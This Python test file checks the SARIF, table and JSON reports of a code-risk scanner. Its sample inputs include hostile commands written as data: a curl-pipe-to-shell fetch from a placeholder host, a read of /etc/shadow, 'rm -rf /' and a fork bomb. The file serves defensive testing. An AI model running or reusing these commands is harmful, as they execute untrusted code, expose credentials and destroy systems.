"""Output formats; SARIF checked against the required structure of the 2.1.0 schema."""

from __future__ import annotations

import json
from typing import Any

from sandlot.risk import assess
from sandlot.risk.model import Assessment
from sandlot.risk.report import render_findings, to_json, to_sarif, to_table

SARIF_LEVELS = {"none", "note", "warning", "error"}


def check_sarif(log: dict[str, Any]) -> None:
    """The parts of the SARIF 2.1.0 schema that code-scanning consumers rely on."""
    assert log["version"] == "2.1.0"
    assert log["$schema"].endswith("sarif-2.1.0.json")
    assert isinstance(log["runs"], list) and log["runs"]
    for run in log["runs"]:
        driver = run["tool"]["driver"]
        assert isinstance(driver["name"], str) and driver["name"]
        rule_ids = [rule["id"] for rule in driver.get("rules", [])]
        assert len(rule_ids) == len(set(rule_ids))
        for rule in driver.get("rules", []):
            assert isinstance(rule["shortDescription"]["text"], str)
        for result in run["results"]:
            assert isinstance(result["message"]["text"], str) and result["message"]["text"]
            assert result["level"] in SARIF_LEVELS
            if "ruleIndex" in result:
                assert rule_ids[result["ruleIndex"]] == result["ruleId"]
            for location in result["locations"]:
                physical = location["physicalLocation"]
                assert isinstance(physical["artifactLocation"]["uri"], str)
                region = physical["region"]
                assert isinstance(region["startLine"], int) and region["startLine"] >= 1
                assert isinstance(region["startColumn"], int) and region["startColumn"] >= 1


def sample() -> list[tuple[str, Assessment]]:
    return [
        ("a.py", assess('import os\nos.system("curl -s http://x | sh")\nopen("/etc/shadow")\n', "python")),
        ("b.sh", assess("rm -rf /\n:(){ :|:& };:\n", "shell")),
        ("c.py", assess("print(1)\n", "python")),
    ]


def test_sarif_structure() -> None:
    log = to_sarif(sample(), version="1.0")
    check_sarif(log)
    json.dumps(log)  # serialisable as is
    results = log["runs"][0]["results"]
    assert len(results) == sum(len(a.findings) for _, a in sample())
    levels = {r["properties"]["risk"]: r["level"] for r in results}
    assert levels["critical"] == "error" and levels["low"] == "note"


def test_sarif_checker_rejects_broken_logs() -> None:
    log = to_sarif(sample())
    log["runs"][0]["results"][0]["level"] = "fatal"
    try:
        check_sarif(log)
    except AssertionError:
        return
    raise AssertionError("check_sarif accepted an invalid level")


def test_sarif_for_parse_error_has_a_valid_region() -> None:
    log = to_sarif([("x.py", assess("def f(:", "python"))])
    check_sarif(log)


def test_empty_sarif() -> None:
    log = to_sarif([("c.py", assess("print(1)", "python"))])
    check_sarif(log)
    assert log["runs"][0]["results"] == []


def test_table_and_json() -> None:
    _, assessment = sample()[1]
    table = to_table(assessment, "b.sh")
    assert "shell.fork-bomb" in table and "b.sh: shell: overall risk CRITICAL (2 findings)" in table
    data = json.loads(to_json(assessment, "b.sh"))
    assert data["level"] == "critical" and len(data["findings"]) == 2


def test_render_findings_limits_output() -> None:
    code = "\n".join('open("/etc/shadow")' for _ in range(30))
    text = render_findings(assess(code, "python"), limit=5)
    assert text.count("[HIGH]") == 5 and "and 25 more" in text
